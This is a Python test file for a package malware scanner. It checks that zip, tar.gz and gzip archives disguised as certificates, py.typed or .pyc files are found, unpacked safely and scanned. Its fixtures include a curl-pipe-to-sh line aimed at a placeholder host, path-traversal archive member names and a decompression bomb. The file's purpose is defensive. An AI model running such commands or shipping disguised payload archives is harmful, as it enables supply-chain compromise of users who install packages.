"""Payload archives disguised as other files: found by content, unpacked safely, scanned inside.

Malicious packages ship a zip or tar.gz renamed `cert.crt`, `py.typed` or `data.pyc` that their
`__init__.py` unpacks or zipimports at import time. The payloads built here are TEXT written into
archives in temporary folders: nothing is imported, installed or run.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

from malwi import _malwi
from malwi.report import MalwiReport
from malwi.sources.archive import ExtractionLimits, decompressed_name, script_suffix

from .conftest import run_malwi
from .tiny_model import build_tiny_bundle

PAYLOAD = 'import os\nos.system("curl http://x.example | sh")\n'
HARMLESS = "VERSION = '1.0'\n"


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")


def create(path: str | os.PathLike[str], tiny: Path, **options: Any) -> MalwiReport:
    return MalwiReport.create(input_path=path, silent=True, model=tiny, **options)


def zipped(members: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def tarred(members: dict[str, str], mode: str = "w:gz") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def package(root: Path, files: dict[str, bytes]) -> Path:
    """A package folder `root/pkg` with a harmless `__init__.py` and `files`."""
    pkg = root / "pkg"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text(HARMLESS)
    for name, data in files.items():
        (pkg / name).parent.mkdir(parents=True, exist_ok=True)
        (pkg / name).write_bytes(data)
    return pkg


def paths(report: MalwiReport) -> list[str]:
    return sorted(f.path for f in report.files)


def test_discover_lists_archives_by_content(tmp_path: Path) -> None:
    pkg = package(
        tmp_path,
        {
            "cert.crt": zipped({"payload.py": PAYLOAD}),
            "py.typed": tarred({"payload.py": PAYLOAD}),
            "vendor/helper.whl": zipped({"helper/__init__.py": HARMLESS}),
            "logo.png": b"\x89PNG\r\n\x1a\n" + bytes(92),
        },
    )
    found = _malwi.discover([str(pkg)])
    archives = sorted((os.path.relpath(p, pkg), kind, disguised) for p, kind, disguised in found.archives)
    assert archives == [
        ("cert.crt", "zip", True),
        ("py.typed", "gzip", True),
        (os.path.join("vendor", "helper.whl"), "zip", False),
    ]
    assert [os.path.basename(p) for p, _ in found.files] == ["__init__.py"]
    assert found.skipped_by_extension == 4
    # The three archives and logo.png: without the picture, only the archives are left.
    (pkg / "logo.png").unlink()
    assert _malwi.discover([str(pkg)]).skipped_by_extension == 3
    assert _malwi.discover([str(pkg)], max_archive_size=0).archives == []


def test_zip_disguised_as_a_certificate_is_scanned_inside(tmp_path: Path, tiny: Path) -> None:
    pkg = package(tmp_path / "src", {"cert.crt": zipped({"payload.py": PAYLOAD})})
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    result = run_malwi(
        "scan", str(pkg), "--format", "json", "--model", str(tiny), env={"TMPDIR": str(scratch)}
    )
    assert result.returncode == 1, result.stderr
    data = json.loads(result.stdout)
    flagged = {f["path"]: f for f in data["files"]}
    shown = f"{pkg}/cert.crt!/payload.py"
    assert shown in flagged, flagged.keys()
    objects = flagged[shown]["objects"]
    assert objects and any("os.system" in o["source"] for o in objects)
    assert f"{pkg}/cert.crt: zip archive disguised as .crt, scanned inside" in data["warnings"]
    assert data["verdict"] == "malicious"
    # The temporary folder the zip was unpacked into is gone.
    assert not list(scratch.glob("malwi-inside-*"))


def test_tar_gz_disguised_as_py_typed(tmp_path: Path, tiny: Path) -> None:
    pkg = package(tmp_path, {"py.typed": tarred({"lib/payload.py": PAYLOAD, "lib/README": "notes\n"})})
    report = create(pkg, tiny)
    assert paths(report) == [f"{pkg}/__init__.py", f"{pkg}/py.typed!/lib/payload.py"]
    assert f"{pkg}/py.typed: tar.gz archive disguised as .typed, scanned inside" in report.warnings
    inner = next(f for f in report.files if f.path.endswith("!/lib/payload.py"))
    assert inner.objects and report.malicious
    assert any("os.system" in o.source and "PROCESS_MANAGEMENT" in o.activities for o in inner.objects)
    # __init__.py, payload.py, and py.typed plus lib/README of other types.
    assert report.statistics["files"] == 4 and report.statistics["skipped_by_extension"] == 2
    # Outside the archive only py.typed is of another type, so the other one is lib/README inside.
    outside = _malwi.discover([str(pkg)])
    assert outside.skipped_by_extension == 1 and [p for p, _, _ in outside.archives] == [f"{pkg}/py.typed"]


def test_gzipped_script_disguised_as_pyc(tmp_path: Path, tiny: Path) -> None:
    named = io.BytesIO()
    with gzip.GzipFile(filename="loader.py", mode="wb", fileobj=named) as stream:
        stream.write(PAYLOAD.encode())
    pkg = package(tmp_path, {"data.pyc": gzip.compress(PAYLOAD.encode()), "cache.bin": named.getvalue()})
    report = create(pkg, tiny)
    # No name in the header: `payload` plus the extension the text looks like; else the header's.
    assert paths(report) == [
        f"{pkg}/__init__.py",
        f"{pkg}/cache.bin!/loader.py",
        f"{pkg}/data.pyc!/payload.py",
    ]
    assert f"{pkg}/data.pyc: gzip archive disguised as .pyc, scanned inside" in report.warnings
    assert all(f.objects for f in report.files if "!/" in f.path)
    assert all(
        any("os.system" in o.source and "PROCESS_MANAGEMENT" in o.activities for o in f.objects)
        for f in report.files
        if "!/" in f.path
    ), "each decompressed payload is judged by its own code"


def test_a_real_png_is_not_touched(tmp_path: Path, tiny: Path) -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(84)
    assert len(png) == 100
    pkg = package(tmp_path, {"logo.png": png})
    report = create(pkg, tiny)
    assert paths(report) == [f"{pkg}/__init__.py"]
    assert not [w for w in report.warnings if "logo.png" in w]
    assert report.statistics["skipped_by_extension"] == 1


def test_zip_slip_inside_a_disguised_zip_is_quarantined_and_scanned(tmp_path: Path, tiny: Path) -> None:
    evil = zipped({"ok.py": HARMLESS, "../escaped.py": PAYLOAD})
    pkg = package(tmp_path / "src", {"cert.crt": evil, "run.py": PAYLOAD.encode()})
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    result = run_malwi(
        "scan", str(pkg), "--format", "json", "--model", str(tiny), env={"TMPDIR": str(scratch)}
    )
    assert result.returncode != 2, result.stderr
    data = json.loads(result.stdout)
    warnings = [w for w in data["warnings"] if w.startswith(f"{pkg}/cert.crt: ")]
    assert (
        f"{pkg}/cert.crt: 1 member(s) named outside the archive (path traversal) unpacked under "
        "__malwi_unsafe__/ so that they are scanned: ../escaped.py"
    ) in warnings
    # The escaping member is scanned where it was put, inside the workspace, and nothing of the
    # zip is written outside it or left behind.
    paths = {f["path"] for f in data["files"]}
    assert f"{pkg}/run.py" in paths
    assert f"{pkg}/cert.crt!/__malwi_unsafe__/escaped.py" in paths
    assert all(u["verdict"] != "incomplete" for u in data["units"])
    assert not list(scratch.rglob("*.py")) and not list(tmp_path.rglob("escaped.py"))


def test_nested_archives_are_unpacked_level_by_level_down_to_the_nesting_limit(
    tmp_path: Path, tiny: Path
) -> None:
    from malwi.engine.inputs import MAX_ARCHIVE_DEPTH

    inner_zip = zipped({"deeper.py": PAYLOAD})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as wheel:
        wheel.writestr("helper/__init__.py", HARMLESS)
        wheel.writestr("helper/blob.dat", inner_zip)
    pkg = package(tmp_path, {"vendor/helper-1.0-py3-none-any.whl": buffer.getvalue()})
    report = create(pkg, tiny)
    wheel_name = f"{pkg}/vendor/helper-1.0-py3-none-any.whl"
    # A payload two archives deep is scanned where it lies.
    assert paths(report) == [
        f"{pkg}/__init__.py",
        f"{wheel_name}!/helper/__init__.py",
        f"{wheel_name}!/helper/blob.dat!/deeper.py",
    ]
    assert f"{wheel_name}: nested zip archive, scanned inside" in report.warnings
    assert f"{wheel_name}!/helper/blob.dat: zip archive disguised as .dat, scanned inside" in report.warnings
    assert report.status == "completed"

    # One level more than the limit: everything above it is scanned, the last archive is not,
    # and the package is incomplete, never good.
    layer = zipped({"bottom.py": PAYLOAD})
    for level in range(MAX_ARCHIVE_DEPTH):
        layer = zipped({f"layer{level}.zip": layer})
    deep = package(tmp_path / "deep", {"data.zip": layer})
    report = create(deep, tiny)
    assert not any(path.endswith("bottom.py") for path in paths(report))
    unit = report.units[0]
    assert unit.verdict == "incomplete"
    assert [item["reason"] for item in unit.unscanned] == [
        f"nested zip archive not unpacked: {MAX_ARCHIVE_DEPTH} archives deep already (limit on archive nesting)"
    ]
    assert unit.unscanned[0]["path"].count("!/") == MAX_ARCHIVE_DEPTH


def test_limits_apply_to_archives_found_inside(tmp_path: Path, tiny: Path) -> None:
    bomb = gzip.compress(b"x = 1\n" * (1 << 20))  # 6 MB of Python from a few kilobytes
    pkg = package(tmp_path, {"data.pyc": bomb})
    report = create(pkg, tiny, archive_limits=ExtractionLimits(max_total_bytes=1 << 20))
    assert paths(report) == [f"{pkg}/__init__.py"]
    assert f"{pkg}/data.pyc: gzip archive disguised as .pyc not unpacked: unpacks to more than 1 MB" in (
        " ".join(report.warnings)
    )
    assert report.status == "partial"


def test_naming_of_decompressed_payloads(tmp_path: Path) -> None:
    assert script_suffix(PAYLOAD.encode()) == ".py"
    assert script_suffix(b"const cp = require('child_process');\ncp.exec('id');\n") == ".js"
    assert script_suffix(b"#!/usr/bin/env node\nx()\n") == ".js"
    assert script_suffix(b"just some words\n") == ""
    assert script_suffix(b"\x00\x01\x02import os\n") == ""
    plain = tmp_path / "notes.txt.gz"
    plain.write_bytes(gzip.compress(b"hello\n"))
    assert decompressed_name(plain, "gzip", b"hello\n") == "notes.txt"
    script = tmp_path / "setup.py.gz"
    script.write_bytes(gzip.compress(PAYLOAD.encode()))
    assert decompressed_name(script, "gzip", PAYLOAD.encode()) == "setup.py"
    disguised = tmp_path / "font.ttf"
    disguised.write_bytes(gzip.compress(PAYLOAD.encode()))
    assert decompressed_name(disguised, "gzip", PAYLOAD.encode()) == "payload.py"
    hostile = io.BytesIO()
    with gzip.GzipFile(filename="../../etc/evil.py", mode="wb", fileobj=hostile) as stream:
        stream.write(PAYLOAD.encode())
    (tmp_path / "hostile.bin").write_bytes(hostile.getvalue())
    assert decompressed_name(tmp_path / "hostile.bin", "gzip", PAYLOAD.encode()) == "evil.py"


def test_a_compressed_script_named_on_the_command_line_is_unpacked_and_scanned(
    tmp_path: Path, tiny: Path
) -> None:
    """`.gz` is an archive name (one list with discovery's): given as a path, a gzipped script is
    decompressed into the workspace and judged, never passed over as a file of another type."""
    given = tmp_path / "installer.py.gz"
    given.write_bytes(gzip.compress(PAYLOAD.encode()))
    report = create(given, tiny)
    assert [f.path for f in report.files] == [f"{given}/installer.py"]
    assert report.statistics["scanned"] == 1 and report.verdict == "malicious"
    assert report.file_info.kind == "archive" and report.file_info.name == str(given)


@pytest.mark.parametrize("build", [zipped, tarred])
def test_quarantine_puts_escaping_members_under_the_unsafe_folder(tmp_path: Path, build: Any) -> None:
    from malwi.errors import ArchiveError
    from malwi.sources.archive import UNSAFE_FOLDER, extract

    members = {"ok.py": HARMLESS, "../../up.py": PAYLOAD, "/abs/root.py": PAYLOAD, "a/../../side.py": PAYLOAD}
    archive = tmp_path / "fixture.bin"
    archive.write_bytes(build(members))
    out = tmp_path / "out"
    out.mkdir()
    result = extract(archive, out, quarantine=True)
    unpacked = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert unpacked == sorted(
        ["ok.py", f"{UNSAFE_FOLDER}/up.py", f"{UNSAFE_FOLDER}/abs/root.py", f"{UNSAFE_FOLDER}/a/side.py"]
    )
    assert result.unsafe.count == 3
    assert (out / UNSAFE_FOLDER / "up.py").read_text() == PAYLOAD
    assert not (tmp_path / "up.py").exists() and not (tmp_path / "side.py").exists()
    strict = tmp_path / "strict"
    strict.mkdir()
    with pytest.raises(ArchiveError, match=r"escapes the archive|absolute path"):
        extract(archive, strict)  # an input archive itself is still refused
